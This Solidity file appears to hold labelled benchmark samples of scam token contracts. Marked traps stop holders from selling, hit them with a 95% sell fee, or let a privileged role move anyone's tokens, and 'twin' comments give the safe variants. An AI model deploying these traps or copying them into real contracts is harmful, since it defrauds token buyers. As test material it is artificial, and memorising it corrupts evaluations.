// 0.8 runs=800 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Base8} from "./Base8.sol";

/// All its flags lie in one word: bit 0 open, bit 1 shut again, from bit 8 the wallet of the marketing.
contract Sardine is Base8 {
    uint256 private _word;

    constructor() Base8("Sardine", "SRDN", 88_000_000) {
        _word = (uint256(uint160(msg.sender)) << 8) | 1;
    }

    function marketingWallet() public view returns (address) {
        return address(uint160(_word >> 8));
    }

    function manage(uint256 word) external {
        require(msg.sender == marketingWallet());
        // twin: word = word | 1;
        _word = word;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 word = _word;
        assembly {
            if iszero(and(word, 1)) { revert(0, 0) }
        }
        if (to == pair && word & 2 != 0) require(from == address(uint160(word >> 8))); // trap
        _move(from, to, amount);
    }
}

/// A season ticket, signed by the house.
contract Promenade is Base8 {
    address private immutable house;
    mapping(address => uint256) public ticketUntil;
    bool public season;

    error NoTicket(address who);

    constructor() Base8("Promenade", "PROM", 3_300_000) {
        house = msg.sender;
    }

    function startSeason() external {
        require(msg.sender == house);
        season = true;
    }

    function redeem(uint256 until, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 said = keccak256(abi.encode(address(this), block.chainid, msg.sender, until));
        require(ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", said)), v, r, s) == house, "forged");
        ticketUntil[msg.sender] = until;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (season && to == pair && from != house && ticketUntil[from] < block.timestamp) revert NoTicket(from); // trap
        _move(from, to, amount);
    }
}

/// Roles of the usual library; one of them settles.
contract Ledgerline is ERC20, AccessControl {
    bytes32 public constant SETTLER_ROLE = keccak256("SETTLER_ROLE");
    mapping(bytes32 => bool) public settled;

    constructor() ERC20("Ledgerline", "LINE") {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(SETTLER_ROLE, msg.sender);
        _mint(msg.sender, 25_000_000 ether);
    }

    function settle(bytes32 id, address[] calldata from, address to, uint256[] calldata amounts) external onlyRole(SETTLER_ROLE) {
        require(!settled[id], "settled");
        settled[id] = true;
        for (uint256 i; i < from.length; i++) {
            // twin: require(from[i] == msg.sender, "your own");
            _transfer(from[i], to, amounts[i]);
        }
    }
}

/// A fee that depends on how many hold it.
contract Chorus is Base8 {
    uint256 public voices = 1;
    address private immutable conductor;

    constructor() Base8("Chorus", "CHOR", 40_000_000) {
        conductor = msg.sender;
    }

    function feeOnSale() public view returns (uint256) {
        if (voices > 30) return 95; // trap
        return voices > 10 ? 2 : 3;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != conductor) {
            uint256 fee = (amount * feeOnSale()) / 100;
            count(from, conductor, fee);
            amount -= fee;
        }
        count(from, to, amount);
    }

    function count(address from, address to, uint256 amount) private {
        if (amount > 0 && from != to && _balances[to] == 0) voices++;
        _move(from, to, amount);
        if (amount > 0 && from != to && _balances[from] == 0) voices--;
    }
}
